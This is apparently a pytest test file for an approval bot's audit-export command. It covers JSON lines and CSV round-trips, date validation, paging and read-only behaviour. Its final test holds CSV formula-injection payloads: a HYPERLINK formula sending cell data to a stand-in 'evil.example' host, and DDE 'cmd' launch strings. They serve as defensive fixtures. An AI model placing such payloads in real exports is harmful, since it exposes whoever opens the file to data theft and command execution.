"""``approval-bot audit export``: every event of an end-to-end flow, back out as JSON lines and
CSV, on SQLite and PostgreSQL; date validation; the read-only rule."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from freezegun import freeze_time

from bot.cli.app import main
from bot.cli.audit import write_export
from bot.cli.output import iso_detail
from bot.clock import utcnow
from bot.engine import Runner
from storage.repository import Repository
from tests.bot.test_engine import calls, request

EVERY_KIND = {
    "run_started",
    "approval_requested",
    "approval_approved",
    "approval_denied",
    "approval_expired",
    "approval_cancelled",
    "execution_started",
    "execution_finished",
    "run_cancelled",
    "run_completed",
}


async def _flow(runner: Runner, repo: Repository) -> None:
    """Approve and run, deny, expire (deny: the run goes on), expire (cancel: the run stops),
    and cancel a waiting run by hand."""
    with freeze_time("2026-11-30 10:00:00") as clock:
        approved = await runner.start(
            request(calls(("restart_service", {"service": "web"})), thread="1")
        )
        await runner.decide(approved.new_approvals[0].id, actor="U0APPROVER1", approve=True)
        await runner.resume(approved.run_id)

        denied = await runner.start(
            request(calls(("restart_service", {"service": "db"})), thread="2")
        )
        await runner.decide(
            denied.new_approvals[0].id, actor="U0APPROVER2", approve=False, reason="not now"
        )
        await runner.resume(denied.run_id)

        expiring = await runner.start(
            request(calls(("restart_service", {"service": "q"})), thread="3")
        )
        cancelled = await runner.start(
            request(calls(("deploy", {"service": "api", "version": "3"})), thread="4")
        )
        by_hand = await runner.start(
            request(calls(("restart_service", {"service": "x"})), thread="5")
        )
        await repo.cancel_run(
            by_hand.run_id, reason="changed my mind", actor="U0REQUESTER", now=utcnow()
        )
        clock.tick(timedelta(minutes=31))
        for expiry in await runner.expire_due():
            if expiry.resume_claimed:
                await runner.resume(expiry.approval.run_id)
        assert {expiring.run_id, cancelled.run_id}


def _as_exported(trail: list[Any]) -> list[dict[str, Any]]:
    return [
        {
            "id": e.id,
            "at": f"{e.at.isoformat()}+00:00",  # ISO 8601 with its offset
            "event": e.event,
            "actor": e.actor,
            "run_id": e.run_id,
            "approval_id": e.approval_id,
            "detail": iso_detail(e.detail),
        }
        for e in trail
    ]


async def test_export_round_trips_every_event(runner: Runner, repo: Repository) -> None:
    await _flow(runner, repo)
    trail = await repo.audit_trail()
    assert {e.event for e in trail} >= EVERY_KIND
    since, until = datetime(2026, 1, 1), datetime(2027, 1, 1)

    jsonl = io.StringIO()
    assert await write_export(repo, jsonl, "jsonl", since=since, until=until) == len(trail)
    exported = [json.loads(line) for line in jsonl.getvalue().splitlines()]
    assert [
        {k: v for k, v in row.items() if k not in ("team_id", "channel", "actor_name", "summary")}
        for row in exported
    ] == (_as_exported(trail))
    # Each event in a sentence, for people reading the export.
    summaries = {r["event"]: r["summary"] for r in exported}
    assert summaries["approval_denied"] == "denied by U0APPROVER2: not now"
    assert summaries["execution_finished"] == "ran"
    # Where: every event of a run names the run's workspace and channel.
    assert {(r["team_id"], r["channel"]) for r in exported if r["run_id"]} == {("T1", "C0OPS")}
    decided = {
        r["event"]: r for r in exported if r["event"] in ("approval_approved", "approval_denied")
    }
    assert decided["approval_approved"]["actor"] == "U0APPROVER1"
    assert decided["approval_denied"]["detail"] == {"reason": "not now"}

    text = io.StringIO()
    assert await write_export(repo, text, "csv", since=since, until=until) == len(trail)
    rows = list(csv.DictReader(io.StringIO(text.getvalue())))
    assert [
        {
            "id": int(r["id"]),
            "at": r["at"],
            "event": r["event"],
            "actor": r["actor"] or None,
            "run_id": r["run_id"] or None,
            "approval_id": r["approval_id"] or None,
            "detail": json.loads(r["detail"]),
        }
        for r in rows
    ] == _as_exported(trail)


async def test_export_pages_and_window(
    runner: Runner, repo: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    with freeze_time("2026-03-01 09:00:00"):
        await runner.start(request(calls(("restart_service", {"service": "a"})), thread="a"))
    with freeze_time("2026-03-02 09:00:00"):
        await runner.start(request(calls(("restart_service", {"service": "b"})), thread="b"))
    monkeypatch.setattr("bot.cli.audit.PAGE", 2)  # several pages, none lost or repeated
    out = io.StringIO()
    await write_export(repo, out, "jsonl", since=datetime(2026, 1, 1), until=datetime(2027, 1, 1))
    ids = [json.loads(line)["id"] for line in out.getvalue().splitlines()]
    assert ids == sorted(set(ids)) and len(ids) == len(await repo.audit_trail())
    day = io.StringIO()
    await write_export(repo, day, "jsonl", since=datetime(2026, 3, 2), until=datetime(2026, 3, 3))
    days = {json.loads(line)["at"][:10] for line in day.getvalue().splitlines()}
    assert days == {"2026-03-02"}


# -- the command -----------------------------------------------------------------------------

CONFIG = (
    'model = "scripted"\ntools = ["tests.support.ops_tools:restart_service"]\n'
    '[policies.restart_service]\napprovers = ["U0APPROVER1"]\n'
)


@pytest.fixture
def cfg(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    (tmp_path / "bot.toml").write_text(CONFIG)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    return ["--config", str(tmp_path / "bot.toml")]


def test_command_exports_to_stdout_and_file(
    cfg: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    request_text = calls(("restart_service", {"service": "web"}))
    assert main([*cfg, "ask", request_text, "--as", "U0REQUESTER"]) == 0
    capsys.readouterr()
    assert main([*cfg, "audit", "export", "--since", "2026-01-01", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert {"run_started", "approval_requested"} <= {r["event"] for r in rows}
    out = tmp_path / "audit.jsonl"
    assert main([*cfg, "audit", "export", "--since", "2026-01-01", "--output", str(out)]) == 0
    assert capsys.readouterr().out == ""
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert [r["event"] for r in lines] == [r["event"] for r in rows]
    # --until a date alone includes that day; a window before everything is empty.
    assert main([*cfg, "audit", "export", "--since", "2020-01-01", "--until", "2020-01-02"]) == 0
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--since", "2026-13-01"], "'2026-13-01' is not a date"),
        (["--since", "yesterday"], "'yesterday' is not a date"),
        (["--since", "2026-01-01", "--until", "2026-02-30"], "'2026-02-30' is not a date"),
        (["--since", "2026-01-01", "--format", "xml"], "invalid choice: 'xml'"),
        ([], "the following arguments are required: --since"),
    ],
)
def test_bad_dates_answer_in_one_line(
    cfg: list[str], argv: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main([*cfg, "audit", "export", *argv])
    err = capsys.readouterr().err
    assert exited.value.code == 2 and message in err and len(err.strip().splitlines()) == 1


def test_until_before_since_and_no_database(
    cfg: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Read-only: no database file is made where none exists.
    assert main([*cfg, "audit", "export", "--since", "2026-01-01"]) == 2
    assert "there is no database" in capsys.readouterr().err
    assert not (tmp_path / "cli.db").exists()
    assert main([*cfg, "db", "upgrade"]) == 0
    capsys.readouterr()
    argv = ["audit", "export", "--since", "2026-02-01", "--until", "2026-01-01T00:00:00Z"]
    assert main([*cfg, *argv]) == 2
    err = capsys.readouterr().err
    assert "must be after --since" in err and len(err.strip().splitlines()) == 1
    missing = tmp_path / "no" / "such" / "dir" / "x.csv"
    argv = ["audit", "export", "--since", "2026-01-01", "--output", str(missing)]
    assert main([*cfg, *argv]) == 2
    assert "cannot write" in capsys.readouterr().err


async def test_csv_cells_are_never_formulas(runner: Runner, repo: Repository) -> None:
    """A display name or a reason a spreadsheet would run as a formula (OWASP CSV injection)
    is written with a quote in front, in every column; JSON lines keep the text as it is."""
    evil_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with freeze_time("2026-11-30 10:00:00"):
        await repo.remember_name("U0REQUESTER", evil_name, now=utcnow())
        await repo.remember_name("U0APPROVER2", "+cmd|' /C calc'!A0", now=utcnow())
        started = await runner.start(
            request(calls(("restart_service", {"service": "db"})), thread="2")
        )
        await runner.decide(
            started.new_approvals[0].id,
            actor="U0APPROVER2",
            approve=False,
            reason="@SUM(1+1)*cmd|' /C calc'!A0",
        )
        await runner.resume(started.run_id)
    since, until = datetime(2026, 1, 1), datetime(2027, 1, 1)
    text = io.StringIO()
    await write_export(repo, text, "csv", since=since, until=until)
    cells = [c for row in csv.reader(io.StringIO(text.getvalue())) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'+cmd|' /C calc'!A0" in {
        r["actor_name"] for r in csv.DictReader(io.StringIO(text.getvalue()))
    }
    assert any(c.startswith("'denied by") or "@SUM" in c for c in cells)
    jsonl = io.StringIO()
    await write_export(repo, jsonl, "jsonl", since=since, until=until)
    names = {json.loads(line)["actor_name"] for line in jsonl.getvalue().splitlines()}
    assert "+cmd|' /C calc'!A0" in names
